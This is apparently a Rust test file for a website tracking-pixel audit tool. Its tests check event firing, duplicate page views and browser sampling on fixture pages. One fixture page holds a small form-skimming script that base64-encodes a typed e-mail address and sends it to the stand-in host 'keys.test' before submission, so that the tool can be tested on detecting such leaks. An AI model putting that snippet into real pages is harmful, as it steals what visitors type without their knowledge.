//! Pages that are exercised in a real browser: what waits for a visitor is set off, and nothing is left, sent or changed.

use pixelproof_audit::parse_input;
use pixelproof_model::{AuditConfig, AuditReport, Beacons, ExerciseKind, Fired, Page, TypedWhen};
use pixelproof_tests::{Hosts, Web};

use crate::browser::{META, audited, config, libraries, page, report};

fn audit(web: &Web, start: &str, beacons: Beacons) -> AuditReport {
    let config = AuditConfig { beacons, exercise: true, ..config(web) };
    audited(parse_input(start, config).unwrap(), report)
}

/// `Lead click seen 1: why`.
fn lines(page: &Page) -> Vec<String> {
    let line = |event: &pixelproof_model::Event| {
        let fired = if event.fired == Fired::Seen { "seen" } else { "never" };
        let declared = if event.declared { "" } else { "undeclared " };
        let why = event.why.as_deref().map(|why| format!(": {why}")).unwrap_or_default();
        let count = event.count.get("none").copied().unwrap_or(0);
        format!("{} {declared}{fired} {count}{why}", event.name.known().unwrap_or("?"))
    };
    page.events.iter().map(line).collect()
}

fn acts(page: &Page) -> Vec<String> {
    let line = |act: &pixelproof_model::ExerciseAct| format!("{:?} {} {}", act.kind, act.on, act.held.join(" "));
    page.exercise.iter().map(|act| line(act).trim_end().to_owned()).collect()
}

const PAGE: &str = r#"<button id=ask onclick="fbq('track', 'Lead')">Ask us</button>
<a id=call href="tel:1" onclick="fbq('track', 'Contact')">Call</a>
<button id=buy>Add to cart</button>
<form id=news action=/subscribe method=post><input name=email type=email required><button>Go</button></form>
<a id=out href="/other" target=_blank>Elsewhere</a>
<button aria-expanded=false id=menu>Menu</button>
<div style="height:4000px"></div>
<script>
document.getElementById('buy').addEventListener('click', () => {
  fbq('track', 'AddToCart', {value: 5, currency: 'EUR'});
  fetch('/cart', {method: 'POST', body: 'kettle'});
  location.href = '/cart';
});
document.getElementById('news').addEventListener('submit', () => fbq('track', 'Subscribe'));
document.getElementById('gone')?.addEventListener('click', () => fbq('track', 'Schedule'));
document.getElementById('menu').addEventListener('click', () => fbq('trackCustom', 'MenuOpened'));
addEventListener('scroll', () => { if (!window.told) { window.told = 1; fbq('trackCustom', 'Scrolled'); } });
document.querySelector('[name=email]').addEventListener('input', (event) => {
  if (event.target.value.endsWith('.com')) new Image().src = 'https://keys.test/log?v=' + btoa(event.target.value);
});
</script>"#;

#[test]
fn what_waits_for_a_visitor_is_set_off_and_nothing_else_happens() {
    let web = Web::start(
        libraries(Hosts::new())
            .page("shop.test/", format!("<!doctype html><title>Home</title>{META}{PAGE}"))
            .page("shop.test/other", "<!doctype html><title>Other</title>"),
    )
    .unwrap();
    let report = audit(&web, "https://shop.test/\nhttps://shop.test/other", Beacons::Send);
    let home = page(&report, "/");
    assert_eq!(
        lines(home),
        [
            "PageView seen 1",
            "Lead seen 1",
            "Contact seen 1",
            "AddToCart seen 1",
            "Subscribe seen 1",
            "Schedule never 0: it waits for a click, and no element was found whose handler it is",
            "MenuOpened seen 1",
            "Scrolled seen 1",
        ],
        "{:#?}",
        acts(home)
    );
    let acts = acts(home);
    for wanted in [
        "Scroll the page",
        "Open button#menu “menu”",
        "Type input “email” (email)",
        "Click button#ask “Ask us”",
        "Click button#buy “Add to cart” POST https://shop.test/cart GET https://shop.test/cart",
        "Submit form#news “Go” POST https://shop.test/subscribe",
    ] {
        assert!(acts.iter().any(|act| act == wanted), "{wanted}\n{acts:#?}");
    }
    let posts: Vec<_> = web.arrived_at("shop.test").into_iter().filter(|a| a.method == "POST").collect();
    assert_eq!(posts, [], "nothing was sent to the site");
    assert!(!web.arrived_at("shop.test").iter().any(|a| a.target == "/cart"), "the page was not left");
    let sent: Vec<_> = web.arrived_at("www.facebook.com");
    assert_eq!(sent.len(), home.beacons.len(), "trackers get what they are sent");
    let leaks: Vec<_> = home.typed.iter().map(|leak| (leak.host.as_str(), leak.what.as_str(), leak.when)).collect();
    assert_eq!(leaks, [("keys.test", "email", TypedWhen::BeforeSubmit)], "{:#?}", home.typed);
    assert_eq!(home.typed[0].packing, ["base64"]);
    shown(&report);
    let told: Vec<&str> = report
        .findings
        .iter()
        .filter(|finding| finding.rule == "personal-data-in-event")
        .map(|finding| finding.message.as_str())
        .collect();
    assert_eq!(
        told,
        [
            "keys.test gets an e-mail address that is typed into a form, as plain text, while it is typed, before the form is sent."
        ]
    );
    let twice = report.findings.iter().filter(|finding| finding.rule == "duplicate-event");
    assert_eq!(twice.count(), 0);
}

/// What the reports for people and for spreadsheets say of it.
fn shown(report: &AuditReport) {
    let html = pixelproof_audit::report::html::render(report, None).unwrap();
    let sent = "sent form#news “Go”, as far as the page is concerned</bdi></td><td><bdi>Meta Pixel Subscribe</bdi>";
    for part in [
        sent,
        "POST https:&#x2f;&#x2f;shop.test&#x2f;subscribe",
        "as plain text, packed in base64",
        "before anything was sent",
    ] {
        assert!(html.contains(part), "{part}");
    }
    let tables = pixelproof_audit::report::csv::render(report).unwrap();
    let names: Vec<&str> = tables.iter().map(|(name, _)| *name).collect();
    assert_eq!(names, ["pages", "events", "findings", "beacons", "cookies", "storage", "exercise", "typed"]);
    let has = |table: &str, part: &str| {
        let (_, text) = tables.iter().find(|(name, _)| *name == table).unwrap();
        assert!(text.lines().any(|line| line.contains(part)), "{part}\n{text}");
    };
    has("exercise", ",submit,form#news “Go”,");
    has("typed", ",before-submit,email,keys.test,,");
    has("typed", ",as plain text,false,true,base64,");
}

const APPLICATION: &str = r#"<div id=app></div><script>
const PAGES = {'/app': 'Home', '/app/a': 'First', '/app/b': 'Second'};
const show = () => {
  document.getElementById('app').innerHTML = Object.entries(PAGES).map(([to, name]) => `<a href="${to}">${name}</a>`).join(' ');
};
document.addEventListener('click', (event) => {
  const link = event.target.closest('a');
  if (!link) return;
  event.preventDefault();
  history.pushState(null, '', link.pathname);
  show();
  /*MANUAL*/
});
show();
</script>"#;

fn routes(manual: &str) -> AuditReport {
    let application = APPLICATION.replace("/*MANUAL*/", manual);
    let page = format!("<!doctype html><title>App</title>{META}{application}");
    let hosts = ["", "/a", "/b"]
        .iter()
        .fold(libraries(Hosts::new()), |hosts, path| hosts.page(&format!("shop.test/app{path}"), page.clone()));
    let web = Web::start(hosts).unwrap();
    audit(&web, "https://shop.test/app\nhttps://shop.test/app/a", Beacons::Held)
}

#[test]
fn page_views_of_a_route_are_told_automatic_from_manual() {
    let automatic = routes("");
    let home = page(&automatic, "/app");
    let kinds: Vec<ExerciseKind> = home.exercise.iter().map(|act| act.kind).collect();
    let followed = kinds.iter().filter(|kind| **kind == ExerciseKind::Route).count();
    assert!(followed >= 2 && kinds.contains(&ExerciseKind::BareRoute), "{:#?}", acts(home));
    let rule = |report: &AuditReport| {
        let found = report.findings.iter().filter(|finding| finding.rule == "duplicate-pageview-route");
        found.map(|finding| (finding.message.clone(), finding.cause.clone().unwrap())).collect::<Vec<_>>()
    };
    assert_eq!(rule(&automatic), []);
    assert!(!automatic.not_checked.iter().any(|not| not.rule.id == "duplicate-pageview-route"));
    // The stand-in, as the library itself, sends one page view for each address; a custom one comes on top.
    let both = routes(
        "document.title = 'x'; const send = new Image(); send.src = 'https://www.facebook.com/tr/?id=480011223344556&ev=PageView&dl=' + encodeURIComponent(location.href) + '&rt=1';",
    );
    assert_eq!(
        rule(&both),
        [(
            "Meta Pixel 480011223344556 gets two page views for one change of route.".to_owned(),
            "The library sends one by itself whenever the address changes, and the application's code another."
                .to_owned()
        )]
    );
}

#[test]
fn pages_that_need_scripts_lead_on_by_their_rendered_links() {
    let app = "<!doctype html><title>App</title><div id=root></div><script>document.getElementById('root').innerHTML = \
               ['hid', 'den'].join('') && `<a href=\"/${['deep', 'er'].join('')}\">x</a>`</script>";
    let web = Web::start(
        Hosts::new()
            .page("spa.test/", app)
            .page("spa.test/deeper", "<!doctype html><title>Deeper</title><h1>Words</h1>"),
    )
    .unwrap();
    let report = audit(&web, "https://spa.test/", Beacons::Held);
    assert!(page(&report, "/").needs_browser);
    let deeper =
        report.pages.iter().find(|page| page.page.url.path() == "/deeper").expect("the rendered link is followed");
    assert_eq!(deeper.page.fetch.as_ref().unwrap().found_by, pixelproof_model::FoundBy::Rendered);
}

#[test]
fn a_browser_looks_at_a_sample_of_each_template_and_says_of_the_others_why_not() {
    let mut hosts = libraries(Hosts::new());
    let mut links = String::new();
    for n in 0..12 {
        links.push_str(&format!("<a href='/item/{n}'>{n}</a> "));
        hosts = hosts.page(
            &format!("shop.test/item/{n}"),
            format!("<!doctype html><title>Item {n}</title>{META}<p>Words {n}</p>"),
        );
    }
    let web = Web::start(hosts.page("shop.test/", format!("<!doctype html><title>Home</title>{META}{links}"))).unwrap();
    let sampled = || {
        let config = AuditConfig { browser_sample: Some(3), ..config(&web) };
        audited(parse_input("https://shop.test/", config).unwrap(), report)
    };
    let report = sampled();
    let looked = |report: &AuditReport| {
        let seen = report.pages.iter().filter(|page| page.page.passes.iter().any(|pass| pass.looked));
        seen.map(|page| page.page.url.path().to_owned()).collect::<Vec<_>>()
    };
    let first = looked(&report);
    assert_eq!(first.len(), 4, "three of the items, and the only page of its template: {first:?}");
    assert!(first.contains(&"/".to_owned()));
    for page in &report.pages {
        let was = first.contains(&page.page.url.path().to_owned());
        assert_eq!(page.page.not_looked.is_none(), was, "{}", page.page.url);
        let fired = if was { Fired::Seen } else { Fired::NotLooked };
        assert!(page.page.events.iter().all(|event| event.fired == fired), "{}: {:?}", page.page.url, page.page.events);
    }
    assert_eq!(
        report.audit.notices,
        ["9 pages were not looked at in the browser: of each template it looked at 3 at most."]
    );
    assert_eq!(looked(&sampled()), first, "the same site gives the same sample");
}
